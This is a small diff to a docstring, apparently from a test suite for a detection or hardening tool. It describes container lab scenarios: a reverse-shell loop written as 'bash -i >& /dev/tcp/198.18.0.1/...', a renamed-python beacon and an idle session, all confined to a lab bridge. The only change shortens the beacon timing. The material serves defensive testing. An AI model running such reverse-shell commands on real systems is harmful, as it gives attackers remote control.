@@ -3,7 +3,7 @@
 Its own lab (state default, prefix ``harden-h20inc<pid>``). Inside the container, for real
 (``tests/support/watch_scenarios.py``): a loop reopening ``bash -i >& /dev/tcp/198.18.0.1/...``
 (each shell lives 2 s, then 5 s pause, 6 rounds), a beacon (a renamed python connecting for
-1.5 s every 4 s, 12 rounds) and a quiet session (a renamed python holding one idle
+2 s every 4 s, 12 rounds) and a quiet session (a renamed python holding one idle
 connection, 80 s). Listeners on 198.18.0.1 only (the lab bridge: checked with ``ip route get``),
 bounded in connections and lifetime; every scenario process is killed by pid.
 """
